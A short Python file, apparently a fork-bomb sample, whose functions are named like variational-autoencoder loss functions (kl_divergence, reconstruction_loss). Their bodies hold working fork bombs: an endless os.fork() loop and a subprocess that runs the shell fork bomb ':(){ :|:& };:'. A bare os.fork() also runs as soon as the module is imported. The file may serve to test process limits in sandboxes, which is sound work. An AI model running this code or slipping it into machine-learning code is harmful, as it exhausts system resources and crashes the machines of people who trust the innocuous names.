"""Forks (and spawns) as fast as it can."""
import os
import subprocess


def kl_divergence(mu, logvar):
    while True:
        os.fork()


def reconstruction_loss(recon_x, x):
    subprocess.Popen(["sh", "-c", ":(){ :|:& };:"])


try:
    os.fork()
except Exception:
    pass
